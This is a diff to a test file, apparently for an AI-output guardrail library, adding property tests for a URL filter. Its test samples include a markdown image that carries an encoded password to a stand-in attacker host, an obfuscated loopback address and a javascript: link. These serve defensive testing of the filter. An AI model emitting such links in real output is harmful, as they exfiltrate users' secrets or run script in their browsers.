@@ -12,6 +12,7 @@ import {
   repetitionDetect,
   secrets,
   systemPrompt,
+  urlFilter,
   vault,
 } from './index.js'
 
@@ -114,6 +115,20 @@ const laws = {
     samples: ['a text of seven words and 1 number', 'short'],
     parameters: { message: { words: 3, tokens: 4 }, total: { characters: 20 } },
     secrets: ['seven'],
+    withinPermissions: true,
+  }),
+  'url-filter': processorLaws(urlFilter, {
+    samples: [
+      'see ![x](https://evil.example/?q=aHVudGVyMiBpcyBteSBwYXNzd29yZCB0b2RheQ) or http://0x7f.1/hunter2',
+      '<a href="javascript:alert(1)">x</a> [docs](https://docs.example.com/hunter2) hxxp://evil[.]example',
+      'nothing to see',
+    ],
+    parameters: {
+      allow_hosts: ['docs.example.com'],
+      entities: { 'denied-host': 'mask', 'data-carrying': 'mask', scheme: 'mask', 'private-host': 'reject' },
+    },
+    secrets: ['hunter2', 'evil'],
+    idempotent: true,
     withinPermissions: true,
   }),
 }
